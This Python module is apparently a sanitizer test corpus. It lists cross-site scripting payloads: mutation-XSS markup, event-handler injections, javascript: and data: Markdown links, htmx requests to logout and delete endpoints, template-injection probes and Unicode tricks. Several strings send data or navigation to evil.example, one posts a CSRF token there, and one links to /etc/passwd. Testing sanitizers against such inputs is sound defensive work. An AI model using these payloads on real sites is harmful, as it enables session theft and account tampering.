"""Words that have run as script somewhere: each tries to call `alert`, to leave the page or to ask elsewhere.

Classes: markup that changes when it is parsed a second time (svg, math, style, noscript, templates, comments), links
that are not links, attributes that act (events, htmx, srcdoc, srcset), what templates evaluate, letters that hide.
"""

# Parsed once it is harmless, parsed again it runs.
MUTATING = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<textarea><a title='</textarea><svg onload=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><desc><td><script>alert(1)</script>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>tap</text></a></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
)
# Markup as it is.
PLAIN = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<IMG SRC=x oNeRrOr=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>",
    "<img srcset='//evil.example/x 1x' src=//evil.example/y>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken>",
    "<button formaction=javascript:alert(1)>tap</button>",
    "<div hx-get=/accounts/logout/ hx-trigger=load hx-on::load=alert(1)>",
    "<a hx-post=/you/delete/ hx-trigger=revealed data-hx-vals='js:{a:alert(1)}'>tap</a>",
    "<leave-quickly><a href=//evil.example/>tap</a></leave-quickly>",
    "<draft-keeper save=//evil.example/></draft-keeper>",
)
# Links that Markdown makes, and links that it must not.
LINKS = (
    "[tap](javascript:alert(1))",
    "[tap](JaVaScRiPt:alert(1))",
    "[tap](java&#x0A;script:alert(1))",
    "[tap](&#106;&#97;&#118;&#97;&#115;cript:alert(1))",
    "[tap](javascript&colon;alert(1))",
    "[tap](\x01javascript:alert(1))",
    "[tap](vbscript:msgbox(1))",
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[tap](file:///etc/passwd)",
    "[tap](//evil.example/)",
    "<javascript:alert(1)>",
    '<https://a.example/" onmouseover=alert(1) >',
    '[tap](https://a.example/ "\'><img src=x onerror=alert(1)>")',
    '[tap](<https://a.example/?"onmouseover="alert(1)>)',
    "[tap][1]\n\n[1]: javascript:alert(1)",
    "![words](x onerror=alert(1))",
    "![words](https://evil.example/pixel.gif)",
    "[![words](javascript:alert(1))](javascript:alert(1))",
    "`</code><img src=x onerror=alert(1)>`",
    '#<img/src=x/onerror=alert(1)> #tag"onmouseover=alert(1)',
)
# What a template would work out, and letters that hide or turn round.
EVALUATED = (
    "{{7*7}}{{ config }}{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "%(name)s %s {who} {0.__class__}",
    "\u202etxet denrut\u202c \u2066apart\u2069 \u200bin\u200bvisible\u200b",
    "＜script＞alert(1)＜/script＞ ＂ onmouseover=alert(1)",
    "\x0b<scr\x01ipt>alert(1)</scr\x7fipt>",
    "zqnonceqz zqtokenqz \x1e",
)
CORPUS = (*MUTATING, *PLAIN, *LINKS, *EVALUATED)
